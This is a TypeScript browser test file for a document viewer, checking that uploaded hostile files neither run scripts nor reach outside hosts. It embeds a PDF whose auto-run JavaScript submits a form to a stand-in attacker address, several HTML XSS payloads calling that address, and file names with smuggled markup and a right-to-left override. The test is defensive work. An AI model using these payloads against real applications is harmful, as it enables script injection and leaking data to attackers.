import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { LONG_MS, openForAll, type OpenApp, openUploaded, ROOT, WHY_SKIPPED } from './open-app.js';

const SLIP = join(ROOT, 'samples', 'html', 'wrong-arithmetic.html');

/** Opens with a script and holds a link and a form that would send; its table of contents is left to the reader to mend. */
const SCRIPTED_PDF = `%PDF-1.7
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AcroForm<</Fields[6 0 R]>>>> endobj
2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Annots[6 0 R]/AA<</O 5 0 R>>
  /Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>> endobj
4 0 obj <</Length 44>> stream
BT /F1 18 Tf 40 200 Td (Annual report 2021) Tj ET
endstream endobj
5 0 obj <</S/JavaScript/JS(app.alert\\('owned'\\); this.submitForm\\('http://203.0.113.1/'\\);)>> endobj
6 0 obj <</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[40 40 200 60]/AA<</F 5 0 R/K 5 0 R>>>> endobj
trailer <</Root 1 0 R>>
%%EOF`;

const describeInBrowser = WHY_SKIPPED === null ? describe : describe.skip;

describeInBrowser('hostile documents in a browser', () => {
  let app: OpenApp;
  openForAll((opened) => {
    app = opened;
  });

  test(
    'a PDF with a script of its own runs nothing and asks nobody',
    async () => {
      const page = await app.newPage();
      const asked: string[] = [];
      let dialogs = 0;
      page.on('request', (request) => asked.push(request.url()));
      page.on('dialog', (dialog) => {
        dialogs += 1;
        void dialog.dismiss();
      });
      await page.goto(`${app.address}/#/documents`);
      const buffer = Buffer.from(SCRIPTED_PDF, 'latin1');
      await page.setInputFiles('input[type=file]', {
        name: 'a"b<script>.pdf',
        mimeType: 'application/pdf',
        buffer,
      });
      await page.waitForSelector('[data-testid="upload-progress"][data-done="yes"]');
      await page.click('[data-testid="upload-progress"] a');
      await page.waitForSelector('.source-page[data-drawn="yes"]');
      expect(dialogs).toBe(0);
      expect(asked.filter((url) => !url.startsWith(app.address) && !/^(blob|data):/.test(url))).toEqual([]);
      await page.close();
    },
    LONG_MS,
  );

  test(
    'a hostile page runs nothing and loads nothing from elsewhere',
    async () => {
      const page = await app.newPage();
      const asked: string[] = [];
      page.on('request', (request) => asked.push(request.url()));
      await page.goto(`${app.address}/#/documents`);
      const html = `${readFileSync(SLIP, 'utf8')}<script>top.document.title='owned'</script>
        <img src="http://203.0.113.1/x.png" onerror="top.document.title='owned'">
        <iframe src="http://203.0.113.1/"></iframe><svg onload="top.document.title='owned'"></svg>
        <style>@import url(http://203.0.113.1/x.css);</style><link rel=stylesheet href="http://203.0.113.1/y.css">
        <meta http-equiv="refresh" content="0;url=http://203.0.113.1/">`;
      const name = '<img src=x onerror=document.title=1>\u202egpj.html';
      await page.setInputFiles('input[type=file]', {
        name,
        mimeType: 'text/html',
        buffer: Buffer.from(html),
      });
      await page.waitForSelector('[data-testid="upload-progress"][data-done="yes"]');
      await openUploaded(page);
      await page.frameLocator('iframe.source-frame').locator('[data-mark~="selected"]').waitFor();
      expect(asked.filter((url) => !url.startsWith(app.address) && !/^(blob|data|about):/.test(url))).toEqual(
        [],
      );
      expect(await page.title()).toMatch(/^gongkai/);
      expect(await page.locator('.source-foot').textContent()).toContain(
        'onerror=document.title=1>□gpj.html',
      );
      await page.close();
    },
    LONG_MS,
  );
});
